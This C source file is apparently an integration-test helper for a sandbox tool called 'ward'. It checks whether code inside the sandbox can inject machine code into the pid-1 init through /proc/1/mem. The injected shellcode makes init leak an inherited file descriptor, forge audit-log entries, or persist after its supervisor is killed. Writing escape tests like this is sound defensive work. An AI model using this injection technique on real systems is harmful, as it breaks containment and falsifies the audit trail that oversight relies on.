/* init-hijack: from inside `ward run`, take over the sandbox's pid-1 init
 * by writing code into it through /proc/1/mem, and make init use the file
 * descriptors it holds (an fd inherited from the harness, ward's audit
 * log) for us. Used by tests/integration/test-escape.sh.
 *
 *   init-hijack READFD TAG
 *   init-hijack persist
 *
 * Init sleeps in sigwaitinfo(). We read its program counter from
 * /proc/1/syscall, write a small x86-64 routine at that address, then send
 * it SIGINT (init blocks it and waits for it, so it is delivered even to a
 * namespace's pid 1). The routine does read(READFD) -> write(1), then
 * write(AUDITFD, "{\"event\":\"forged\",\"tag\":\"TAG\"}\n") and exit_group(0).
 * "persist" instead clears init's PR_SET_PDEATHSIG and parks it in pause():
 * the sandbox then outlives a ward killed with SIGKILL.
 *
 * Exit status: 0 when the code was written (whether init then ran it is
 * for the caller to see on the host), 2 when the kernel refused
 * (/proc/1/mem or /proc/1/syscall not accessible: the expected result),
 * 77 when not applicable (not x86-64), 1 on usage errors. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#if defined(__x86_64__)
static const unsigned char code[] = {
	0xbf, 0x11, 0x11, 0x11, 0x11, 0x48, 0x8d, 0xb4, 0x24, 0x00, 0xf0, 0xff, 0xff, 0xba,
	0x00, 0x01, 0x00, 0x00, 0x31, 0xc0, 0x0f, 0x05, 0x48, 0x85, 0xc0, 0x7e, 0x17, 0x48,
	0x89, 0xc2, 0xbf, 0x01, 0x00, 0x00, 0x00, 0x48, 0x8d, 0xb4, 0x24, 0x00, 0xf0, 0xff,
	0xff, 0xb8, 0x01, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xbf, 0x22, 0x22, 0x22, 0x22, 0x48,
	0x8d, 0x35, 0x15, 0x00, 0x00, 0x00, 0xba, 0x33, 0x33, 0x33, 0x33, 0xb8, 0x01, 0x00,
	0x00, 0x00, 0x0f, 0x05, 0x31, 0xff, 0xb8, 0xe7, 0x00, 0x00, 0x00, 0x0f, 0x05
};
/* prctl(PR_SET_PDEATHSIG, 0); for (;;) pause(); */
static const unsigned char persist_code[] = {
	0xbf, 0x01, 0x00, 0x00, 0x00, 0x31, 0xf6, 0xb8, 0x9d, 0x00, 0x00, 0x00,
	0x0f, 0x05, 0xb8, 0x22, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xeb, 0xf7
};
enum { OFF_READFD = 1, OFF_AUDITFD = 0x33, OFF_MSGLEN = 0x3f };
#endif

/* The fd of init whose target ends in "audit.jsonl" (readlink on
 * /proc/1/fd needs only read access), or -1. */
static int find_audit_fd(void)
{
	DIR *d = opendir("/proc/1/fd");
	struct dirent *de;
	int found = -1;

	if (!d)
		return -1;
	while ((de = readdir(d))) {
		char link[300], target[4096];
		ssize_t n;

		if (de->d_name[0] == '.')
			continue;
		snprintf(link, sizeof(link), "/proc/1/fd/%s", de->d_name);
		n = readlink(link, target, sizeof(target) - 1);
		if (n <= 0)
			continue;
		target[n] = '\0';
		if (n >= 11 && strcmp(target + n - 11, "audit.jsonl") == 0)
			found = atoi(de->d_name);
	}
	closedir(d);
	return found;
}

int main(int argc, char **argv)
{
#if !defined(__x86_64__)
	(void)argc;
	(void)argv;
	puts("init-hijack: not applicable on this architecture");
	return 77;
#else
	unsigned char buf[sizeof(code) + 256];
	unsigned long long pc = 0;
	char line[512], msg[200];
	uint32_t v;
	int fd, n;
	FILE *f;

	bool persist = argc == 2 && strcmp(argv[1], "persist") == 0;
	if (argc != 3 && !persist)
		return 1;
	int readfd = persist ? 0 : atoi(argv[1]);
	int auditfd = find_audit_fd();
	printf("init-hijack: audit fd in init: %d\n", auditfd);
	if (auditfd < 0)
		auditfd = 1; /* still show the takeover on stdout */
	n = snprintf(msg, sizeof(msg), "{\"event\":\"forged\",\"tag\":\"%s\"}\n",
		     persist ? "persist" : argv[2]);
	if (n < 0 || (size_t)n >= sizeof(msg))
		return 1;

	f = fopen("/proc/1/syscall", "re");
	if (!f || !fgets(line, sizeof(line), f)) {
		printf("init-hijack: /proc/1/syscall: %s\n", strerror(errno));
		return 2;
	}
	fclose(f);
	char *last = strrchr(line, ' ');
	if (!last || sscanf(last + 1, "%llx", &pc) != 1 || pc == 0) {
		printf("init-hijack: no pc in '%s'\n", line);
		return 2;
	}

	memcpy(buf, code, sizeof(code));
	v = (uint32_t)readfd;
	memcpy(buf + OFF_READFD, &v, 4);
	v = (uint32_t)auditfd;
	memcpy(buf + OFF_AUDITFD, &v, 4);
	v = (uint32_t)n;
	memcpy(buf + OFF_MSGLEN, &v, 4);
	memcpy(buf + sizeof(code), msg, (size_t)n);
	size_t len = sizeof(code) + (size_t)n;
	if (persist) {
		memcpy(buf, persist_code, sizeof(persist_code));
		len = sizeof(persist_code);
	}

	fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
	if (fd < 0) {
		printf("init-hijack: open /proc/1/mem: %s\n", strerror(errno));
		return 2;
	}
	if (pwrite(fd, buf, len, (off_t)pc) < 0) {
		printf("init-hijack: write /proc/1/mem: %s\n", strerror(errno));
		return 2;
	}
	close(fd);
	printf("init-hijack: wrote %zu bytes at 0x%llx\n", len, pc);
	fflush(stdout);
	/* Init forwards SIGINT to us if it still runs its own code. */
	signal(SIGINT, SIG_IGN);
	kill(1, SIGINT);
	if (persist)
		return 0;
	sleep(2);
	puts("init-hijack: init survived");
	return 0;
#endif
}
